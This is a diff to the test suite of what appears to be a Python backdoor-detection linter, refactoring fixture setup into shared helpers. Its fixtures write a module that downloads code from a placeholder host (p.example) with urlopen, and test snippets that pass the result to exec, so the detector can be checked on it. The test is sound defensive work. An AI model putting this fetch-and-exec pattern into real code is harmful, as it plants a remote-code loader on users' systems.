@@ -4,6 +4,8 @@ site test says yes on it. Cases: a sink reached through a `self` attribute, a ge
 default, a class attribute or an implicit concatenation, a literal module name that is dangerous,
 an importer or getattr under another name, a blob or loader option from a constant."""
 import ast
+import sys
+from pathlib import Path
 
 import pytest
 from backdoor_lint.checkers.base import ModuleContext
@@ -15,6 +17,9 @@ from backdoor_lint.checkers.triggers.exec import ObfuscatedExec
 
 from backdoor_lint.config import Config
 from backdoor_lint.engine import check_bytes, scan_bytes
+
+sys.path.insert(0, str(Path(__file__).parent))
+from site_test_support import in_tree, package  # noqa: E402
 
 BLOB = "TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQsIGNvbnNlY3RldHVyIGFkaXBpc2NpbmcgZWxpdCwgc2VkIGRvIGVpdXNtb2Q="
 
@@ -158,33 +163,23 @@ def test_a_name_imported_from_a_module_with_an_origin_is_judged_by_its_value_the
     function of that name returns (not about that module's imports): so does the site test.
     Django's case: `settings` comes from a module that reads os.environ, but its value there is an
     instance of a class of that module, which carries nothing the rule reports."""
-    package = tmp_path / "pkg"
-    package.mkdir()
-    (package / "__init__.py").write_text("")
-    (package / "conf.py").write_text("import os\nclass LazySettings:\n    def __getattr__(self, name):\n"
-                                     "        return os.environ.get(name)\nsettings = LazySettings()\n")
-    (package / "net.py").write_text(
-        'from urllib.request import urlopen\n_raw = urlopen("https://p.example/x").read()\nCODE = _raw\n'
-        'def _load(url):\n    return urlopen(url).read()\ndef get():\n    return _load("https://p.example/y")\n')
-    path = str(package / "run.py")
-
-    def verdicts(text: str):
-        data = text.encode()
-        site = ObfuscatedExec.has_site(python_facts(data, ast.parse(data), path, str(tmp_path)))
-        found = {(f.code, f.line) for f in check_bytes(path, data, Config(root=tmp_path), "pkg/run.py").findings}
-        return site, found
-
+    package(tmp_path, {
+        "conf": "import os\nclass LazySettings:\n    def __getattr__(self, name):\n"
+                "        return os.environ.get(name)\nsettings = LazySettings()\n",
+        "net": 'from urllib.request import urlopen\n_raw = urlopen("https://p.example/x").read()\nCODE = _raw\n'
+               'def _load(url):\n    return urlopen(url).read()\ndef get():\n    return _load("https://p.example/y")\n'})
     clean = "from importlib import import_module\nfrom pkg.conf import settings\ndef engine():\n" \
             "    return import_module(settings.SESSION_ENGINE)\n"
-    assert verdicts(clean) == (False, set())
+    assert in_tree(tmp_path, clean, ObfuscatedExec) == (False, set())
     # through an assignment chain and through a helper function of that module
-    site, found = verdicts("from pkg.net import CODE\ndef go():\n    exec(CODE)\n")
+    site, found = in_tree(tmp_path, "from pkg.net import CODE\ndef go():\n    exec(CODE)\n", ObfuscatedExec)
     assert site and ("BDL502", 3) in found, sorted(found)
-    site, found = verdicts("from pkg.net import get as fetch_it\ndef go():\n    exec(fetch_it())\n")
+    site, found = in_tree(tmp_path, "from pkg.net import get as fetch_it\ndef go():\n    exec(fetch_it())\n",
+                          ObfuscatedExec)
     assert site and ("BDL502", 3) in found, sorted(found)
     # a module `ast` cannot parse may hold anything
-    (package / "conf.py").write_text("import os\nsettings = os.environ[\n")
-    assert verdicts(clean)[0]
+    (tmp_path / "pkg" / "conf.py").write_text("import os\nsettings = os.environ[\n")
+    assert in_tree(tmp_path, clean, ObfuscatedExec)[0]
 
 @pytest.mark.parametrize("trigger,source,code,line", CASES, ids=[f"{t.__name__}-{i}" for i, (t, *_) in enumerate(CASES)])
 def test_the_site_test_lets_the_evasion_through_and_the_engine_reports_it(trigger, source, code, line):
